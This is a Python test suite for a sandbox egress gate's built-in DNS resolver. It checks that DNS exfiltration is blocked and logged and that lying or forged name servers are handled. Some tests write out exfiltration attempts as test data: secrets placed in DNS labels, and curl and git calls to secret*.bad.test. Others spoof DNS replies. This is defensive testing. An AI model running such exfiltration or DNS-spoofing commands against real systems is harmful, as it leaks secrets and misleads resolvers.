# SPDX-License-Identifier: Apache-2.0
"""The gate's own DNS: it never asks anyone, so a look-up carries nothing out; and it answers as resolvers should."""

import contextlib
import json
import socket
import subprocess

import pytest

from lab import v4, v6

NXDOMAIN, FORMERR, REFUSED = 3, 1, 5


def ask(lab, args, names, user=None, **kwargs):
    """Sends one query per (name, type) over UDP from one sandbox; returns (the parsed replies, the result)."""
    result = lab.python(args, """
        for name, qtype in json.loads(sys.argv[1]):
            show(**dns_read(dns_udp(dns_query(name, qtype))))
    """, json.dumps(names), user=user, **kwargs)
    assert result.rc == 0, result
    return result.shown, result


def test_exfiltration(lab, who):
    """Secrets as labels, over every way to ask: nothing reaches a name server, all is on record."""
    names = [[f"secret{number}.{'x' * 50}.bad.test", qtype] for number, qtype in enumerate((1, 28, 16, 10, 15, 2, 5, 255, 65))]
    with lab.capture() as capture:
        replies, result = ask(lab, ["--allow", "ok.test"], names, who)
    assert [reply["rcode"] for reply in replies] == [NXDOMAIN] * len(names), result
    assert capture.packets == [] and lab.dns.queries == []
    denied = result.of("decision", door="dns", verdict="deny", reason="not_allowed")
    assert [record["host"] for record in denied] == [name for name, _ in names], result


def test_exfiltration_by_client_programs(lab, who):
    with lab.capture() as capture:
        result = lab.netgate(["--allow", "ok.test"], ["sh", "-c", "getent hosts secret1.bad.test; curl -s http://secret2.bad.test/;"
                                                      "curl -s https://secret3.bad.test/;"
                                                      "git ls-remote https://secret4.bad.test/x 2>/dev/null; true"], user=who)
    assert capture.packets == [] and lab.dns.queries == [], result
    hosts = {record["host"] for record in result.of("decision", door="dns", verdict="deny")}
    assert hosts == {f"secret{number}.bad.test" for number in (1, 2, 3, 4)}, result


def test_allowed_name_is_not_looked_up_before_a_connection(lab, who):
    """Below an allowed wildcard a look-up could carry data too: it is answered locally."""
    with lab.capture() as capture:
        replies, _ = ask(lab, ["--allow", "ok.test", "--allow", "*.wild.test"],
                         [["ok.test", 1], ["ok.test", 28], ["c2VjcmV0.wild.test", 1]], who)
    assert capture.packets == [] and lab.dns.queries == []
    (a,), (aaaa,), (wild,) = (reply["answers"] for reply in replies)
    assert a[1].startswith("198.18.") and aaaa[1].startswith("fd6e:6574:6761:5000:") and wild[1].startswith("198.18.")
    assert a[1] != wild[1]


def test_other_servers_are_the_gate_too(lab, who):
    """Whatever resolver a program insists on, over UDP or TCP and either family, it gets the gate."""
    with lab.capture() as capture:
        result = lab.python(["--allow", "ok.test"], """
            for server in sys.argv[1:]:
                for name in ("secret.bad.test", "ok.test"):
                    reply = dns_read(dns_udp(dns_query(name), server))
                    show(rcode=reply["rcode"], answers=len(reply["answers"]))
                    with tcp(server, 53) as sock:
                        query = dns_query(name)
                        sock.sendall(struct.pack("!H", len(query)) + query)
                        length = struct.unpack("!H", take(sock, 2))[0]
                        reply = dns_read(take(sock, length))
                        show(rcode=reply["rcode"], answers=len(reply["answers"]))
        """, "8.8.8.8", v4("dns"), v6("dns"), user=who)
    expected = [{"rcode": NXDOMAIN, "answers": 0}] * 2 + [{"rcode": 0, "answers": 1}] * 2
    assert result.shown == expected * 3, result
    assert capture.packets == []


def test_same_name_same_address(lab):
    names = [["ok.test", 1], ["OK.TeSt", 1], ["h2.test", 1], ["ok.test", 1]]
    replies, _ = ask(lab, ["--allow", "ok.test", "--allow", "h2.test"], names)
    first, mixed, other, again = (reply["answers"][0][1] for reply in replies)
    assert first == mixed == again != other


def test_denial_has_soa_and_extended_error(lab):
    """RFC 2308 for caches, RFC 8914 for people: Filtered (17), with the reason as text."""
    (reply,), _ = ask(lab, ["--allow", "ok.test"], [["bad.test", 1]])
    assert reply["rcode"] == NXDOMAIN and reply["ra"], reply
    assert [rtype for rtype, _ in reply["authority"]] == [6], reply
    ((rtype, rdata),) = reply["additional"]
    option = bytes.fromhex(rdata)
    assert rtype == 41 and option[:2] == b"\0\x0f" and option[4:6] == b"\0\x11" and b"not_allowed" in option, reply


@pytest.mark.parametrize("qtype,rcode", [(5, 0), (12, 0), (15, 0), (16, 0), (33, 0), (64, 0), (65, 0), (10, REFUSED), (252, REFUSED),
                                         (255, 0)])
def test_other_types_of_an_allowed_name(lab, qtype, rcode):
    """NODATA for what a client may ask for on its way, REFUSED for what no client needs: at once, either way."""
    (reply,), _ = ask(lab, ["--allow", "ok.test"], [["ok.test", qtype]])
    assert (reply["rcode"], reply["answers"]) == (rcode, []), reply


def test_ancestors_of_an_allowed_name_exist(lab):
    """RFC 8020: NODATA and not NXDOMAIN, or a validating cache would deny the whole tree."""
    replies, _ = ask(lab, ["--allow", "deep.down.ok.test"], [["down.ok.test", 1], ["ok.test", 28], ["test", 1], ["xtest", 1]])
    assert [(reply["rcode"], reply["answers"]) for reply in replies] == [(0, [])] * 3 + [(NXDOMAIN, [])]


def test_reverse_lookup(lab):
    result = lab.python(["--allow", "ok.test"], """
        address = socket.gethostbyname("ok.test")
        show(name=socket.gethostbyaddr(address)[0])
    """)
    assert result.shown == [{"name": "ok.test"}], result


def test_malformed_and_odd_queries(lab):
    """No answer or an error, one record each, and the server is there for the next one."""
    result = lab.python(["--allow", "ok.test"], """
        server = dns_server()
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.connect((server, 53))
        sock.settimeout(TIMEOUT)
        for junk in (b"", b"x", bytes(11), b"\\xff" * 600):
            sock.send(junk)
        for query in (dns_query("ok.test", qclass=3), dns_query(b"bad\\nname.test"), dns_query("ok.test")[:-15]):
            sock.send(query)
        sock.send(dns_query("ok.test", ident=0x7777))
        while True:
            reply = sock.recv(4096)
            if reply[:2] == b"\\x77\\x77":
                show(rcode=dns_read(reply)["rcode"])
                break
    """)
    assert result.shown == [{"rcode": 0}], result
    assert result.of("decision", door="dns", host="ok.test", verdict="allow"), result


def test_many_queries_on_one_connection(lab):
    """RFC 7766: 100 pipelined queries, all answered."""
    result = lab.python(["--allow", "*.wild.test"], """
        with tcp(dns_server(), 53) as sock:
            queries = [dns_query(f"n{number}.wild.test", ident=number) for number in range(100)]
            sock.sendall(b"".join(struct.pack("!H", len(query)) + query for query in queries))
            seen = {}
            for _ in queries:
                length = struct.unpack("!H", take(sock, 2))[0]
                reply = take(sock, length)
                seen[struct.unpack("!H", reply[:2])[0]] = dns_read(reply)["answers"][0][1]
            show(ids=len(seen), addresses=len(set(seen.values())))
    """)
    assert result.shown == [{"ids": 100, "addresses": 100}], result
    assert len(result.of("decision", door="dns", verdict="allow")) == 100


def test_search_list_of_the_host_is_not_used(lab, who):
    resolv = f"nameserver {v4('dns')}\nsearch corp.example\noptions ndots:3\n"
    result = lab.netgate(["--allow", "ok.test"], ["sh", "-c", "getent hosts ok; getent hosts bad.test; cat /etc/resolv.conf"],
                         user=who, resolv=resolv)
    assert "corp.example" not in result.out, result
    assert {record["host"] for record in result.of("decision", door="dns")} == {"ok", "bad.test"}, result


def test_stub_resolver_on_the_host(lab, who):
    """A resolv.conf with 127.0.0.53: the sandbox gets the gate's address all the same, netgate asks the stub."""
    result = lab.netgate(["--allow", "ok.test"], ["sh", "-c", "cat /etc/resolv.conf; curl -sS https://ok.test/hello"], user=who,
                         resolv="nameserver 127.0.0.53\noptions edns0 trust-ad\n")
    assert result.out.endswith("hello from ok.test\n") and "127.0.0.53" not in result.out, result
    assert {query.peer for query in lab.dns.queries} == {"127.0.0.1"}


def test_resolver_option(lab, who):
    for server in (v4("dns"), v6("dns"), f"{v4('dns')}:53", f"[{v6('dns')}]:53"):
        lab.reset()
        result = lab.netgate(["--allow", "ok.test", "--resolver", server], ["curl", "-sS", "https://ok.test/hello"], user=who,
                             resolv="nameserver 192.0.2.1\n")
        assert result.out == "hello from ok.test\n", result
        assert lab.dns.queries


def test_denied_names_need_no_resolver(lab, who):
    result = lab.netgate(["--allow", "ok.test"], ["curl", "-sS", "https://bad.test/"], user=who,
                         resolv=f"nameserver {v4('raw')}\n")
    assert result.rc == 6, result


@pytest.mark.parametrize("fields,detail", [({"rcode": 2}, "SERVFAIL"), ({"rcode": 3}, "NXDOMAIN"), ({}, "")])
def test_upstream_failure(lab, fields, detail):
    """An allowed name that can't be resolved: a quick 502, and the reason on record."""
    lab.dns.add("broken.test", **fields)
    result = lab.python(["--allow", "broken.test"], """
        (status, headers, body), = http("broken.test", 80, b"GET / HTTP/1.1\\r\\nHost: broken.test\\r\\n\\r\\n")
        show(status=status, reason=headers.get("x-netgate-reason"))
    """)
    assert result.shown == [{"status": 502, "reason": "dns_failed"}], result
    dial = result.one("dial", host="broken.test")
    assert dial["outcome"] == "dns_failed", result
    assert detail.lower() in str(dial).lower()


def test_recovers_after_an_outage(lab):
    lab.dns.add("flaky.test", rcode=2)
    script = """
        request = b"GET /hello HTTP/1.1\\r\\nHost: flaky.test\\r\\n\\r\\n"
        for line in sys.stdin:
            show(status=http("flaky.test", 80, request)[0][0])
    """
    with lab.start(["--allow", "flaky.test"], lab.script(script), stdin=subprocess.PIPE) as running:
        first = running.ask()
        lab.dns.add("flaky.test", a=[v4("web")])
        second = running.ask()
        running.finish()
    assert (first, second) == ({"status": 502}, {"status": 200})


def test_cname_chain(lab):
    """An allowed name's aliases are the name server's business, whatever they are called; underscores too."""
    for number in range(8):
        lab.dns.add(f"c{number}._x.wild.test", cname=f"c{number + 1}._x.wild.test")
    lab.dns.add("c8._x.wild.test", a=[v4("web")])
    lab.dns.add("chain.ok.test", cname="c0._x.wild.test")
    result = lab.netgate(["--allow", "chain.ok.test"], ["curl", "-sS", "https://chain.ok.test/hello"])
    assert result.out == "hello from chain.ok.test\n", result


def test_large_answer_comes_over_tcp(lab):
    """128 addresses don't fit a datagram: netgate asks again over TCP."""
    lab.dns.add("many.ok.test", a=[v4("web")] * 128)
    result = lab.netgate(["--allow", "many.ok.test"], ["curl", "-sS", "https://many.ok.test/hello"])
    assert result.out == "hello from many.ok.test\n", result
    assert {query.transport for query in lab.dns.asked("many")} == {"udp", "tcp"}


def test_look_ups_of_one_name(lab):
    """What is answered again and again is summed up, exactly, and buries nothing."""
    result = lab.python(["--allow", "ok.test", "--allow", "other.test"], """
        for number in range(4000):
            dns_udp(dns_query("ok.test", ident=number))
        dns_udp(dns_query("other.test"))
        dns_udp(dns_query("bad.test"))
    """)
    found = result.of("decision", door="dns", host="ok.test")
    assert sum(record.get("count", 1) for record in found) == 4000, result
    assert len(found) < 1200 and all(record["verdict"] == "allow" for record in found), len(found)
    assert len(result.of("decision", door="dns", host="other.test")) == 1
    assert len(result.of("decision", door="dns", host="bad.test", verdict="deny")) == 1
    end = result.one("end")
    assert (end["queries"], end["queries_denied"]) == (4002, 1), end


LIES = {
    # An answer as it should be, and what a name server makes of it: (seconds to wait, datagrams).
    "twice": lambda reply, other, peer: [(0, reply), (0, reply)],
    "wrong id first": lambda reply, other, peer: [(0, bytes([reply[0] ^ 1]) + reply[1:]), (0.2, reply)],
    "wrong question first": lambda reply, other, peer: [(0, other), (0.2, reply)],
    "a query first": lambda reply, other, peer: [(0, reply[:2] + b"\1\0" + reply[4:]), (0.2, reply)],
    "cut first": lambda reply, other, peer: [(0, reply[:13]), (0.2, reply)],
    "late": lambda reply, other, peer: [(1.5, reply)],
    "long after": lambda reply, other, peer: [(0, reply), (1, other), (1, bytes(65000))],
}
# What a name server says in place of an answer; `over_tcp`: also there, else nothing comes there.
FAILURES = {"loop": ({"cname": "liar.test"}, None), "refused": ({"rcode": 5}, None), "not implemented": ({"rcode": 4}, None),
            "silence": ({"silent": True}, None), "truncated, then nothing": ({"a": [v4("web")] * 128}, "tcp")}
HOSTILE = """
    GET = b"GET /hello HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n"
    for name in ("liar.test", "ok.test"):
        began = time.monotonic()
        (status, headers, _), = http(name, 80, GET % name.encode())
        show(status=status, reason=headers.get("x-netgate-reason"), took=time.monotonic() - began)
"""


@contextlib.contextmanager
def hostile(lab, how=None, mute=None):
    """The lab's name server lies about liar.test, and says nothing over the transport `mute`."""
    honest, plain = lab.dns.answer, lab.dns.datagrams

    def answer(data, transport, peer):
        return None if transport == mute and b"liar" in data else honest(data, transport, peer)

    def datagrams(data, reply, peer):
        return how(reply, reply.replace(b"\4liar", b"\4else"), peer) if how and b"liar" in data else plain(data, reply, peer)

    lab.dns.answer, lab.dns.datagrams = answer, datagrams
    try:
        yield
    finally:
        del lab.dns.answer, lab.dns.datagrams


@pytest.mark.parametrize("how", LIES.values(), ids=LIES.keys())
def test_name_server_that_lies(lab, how):
    """What does not belong to the question is passed over: the true answer counts, once, and the next look-up is as ever."""
    lab.dns.add("liar.test", a=[v4("web")])
    with hostile(lab, how), lab.capture() as capture:
        result = lab.python(["--allow", "liar.test", "--allow", "ok.test"], HOSTILE)
    assert [seen["status"] for seen in result.shown] == [200, 200], result
    assert [(record["host"], record["outcome"]) for record in result.of("dial")] == [("liar.test", "connected"), ("ok.test", "connected")], result
    assert not lab.dns.asked("else.test") and {address for proto, address, _ in capture.destinations() if proto == "tcp"} <= {v4("web"), v6("web")}


@pytest.mark.parametrize("fields,mute", FAILURES.values(), ids=FAILURES.keys())
def test_name_server_that_fails(lab, fields, mute):
    """A page, one record and no connection, within the time that a dial may take; the next look-up is as ever."""
    lab.dns.add("liar.test", **fields)
    with hostile(lab, mute=mute):
        result = lab.python(["--allow", "liar.test", "--allow", "ok.test"], HOSTILE)
    assert [(seen["status"], seen["reason"]) for seen in result.shown] == [(502, "dns_failed"), (200, None)], result
    assert result.shown[0]["took"] < 30 and result.shown[1]["took"] < 30, result  # a dial may take 10 s, on an idle machine
    assert [(record["host"], record["outcome"]) for record in result.of("dial")] == [("liar.test", "dns_failed"), ("ok.test", "connected")], result
    assert len(lab.web.requests) == 1


def test_answers_from_elsewhere(lab):
    """A datagram with everything right but the sender: only what the name server itself says counts."""
    lab.dns.add("liar.test", a=[v4("web")])
    with lab.inet.inside(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as forger:
        forger.bind((v4("raw"), 53))

        def forge(reply, other, peer):
            forger.sendto(reply.replace(socket.inet_aton(v4("web")), socket.inet_aton(v4("raw"))), peer)
            return [(0.5, reply)]

        with hostile(lab, forge):
            result = lab.python(["--allow", "liar.test", "--allow", "ok.test"], HOSTILE)
    assert [seen["status"] for seen in result.shown] == [200, 200], result
    assert [record["addr"] for record in result.of("dial", host="liar.test")] == [f"{v4('web')}:80"], result
